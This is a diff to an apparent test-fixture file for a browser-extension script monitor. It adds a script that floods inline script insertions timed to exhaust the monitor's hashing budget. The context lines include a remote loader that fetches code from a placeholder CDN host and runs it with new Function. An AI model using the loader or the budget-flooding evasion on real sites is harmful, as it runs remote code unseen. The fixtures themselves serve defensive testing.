@@ -302,6 +302,49 @@ export const MAIN_WORLD_SCRIPTS = {
   }
 })();`,
 
+  /**
+   * Two inline actors past the hash budget in one task, both still named by the stack: inline script A<n>
+   * inserts inline scripts past the budget, then inline script B<n> inserts three more. Both actors' key is
+   * `inline|` (the hash goes into the actor later), so both share one hash budget and one fold shape.
+   * Saq's budgets are modelled here (src/content/main: stack captures 64 at once and 100 a second; hashes 64 at
+   * once and 64 a second per kind and actor), so each round spends the hashes and keeps the captures whatever
+   * the timers' lag: a D<n> script spends most of the hashes left (and as many captures), then the clock is
+   * waited on until the captures are ahead by a round: A's hashed scripts, six skipped ones of A's, B's three.
+   */
+  'inline-actors-flood': `(() => {
+  const actor = (tag, n) => {
+    const script = document.createElement('script');
+    script.textContent = '/* ' + tag + ' */ for (let i = 0; i < ' + n + '; i++) { const c = document.createElement("script"); c.textContent = "window.__inlineActors = \\\\"' + tag + ':" + i + "\\\\";"; document.head.appendChild(c); }';
+    document.head.appendChild(script);
+  };
+  let hashes = 64, captures = 62, last = performance.now(), round = 0;
+  const elapse = () => {
+    const now = performance.now();
+    hashes = Math.min(64, hashes + 0.064 * (now - last));
+    captures = Math.min(64, captures + 0.1 * (now - last));
+    last = now;
+  };
+  const step = () => {
+    elapse();
+    if (hashes >= 8) {
+      const n = Math.floor(hashes) - 4;
+      actor('D' + round, n);
+      hashes -= n;
+      captures -= n + 1;
+    }
+    while (captures - hashes < 20) elapse();
+    const a = Math.floor(hashes) + 6;
+    actor('A' + round, a);
+    actor('B' + round, 3);
+    captures -= a + 5;
+    hashes = 0;
+    round++;
+    if (round < 5) setTimeout(step, 100);
+    else window.__inlineActorsRounds = round;
+  };
+  setTimeout(step, 100);
+})();`,
+
   /** The classic loader: downloads the real code and runs it with new Function. */
   'remote-loader': `fetch('https://${HELPER_CDN}/payload.txt').then((r) => r.text()).then((code) => new Function(code)());`,
   payload: `/* helper payload */ ${ADD_TO_CART}.click(); window.__helperPayload = true;`,
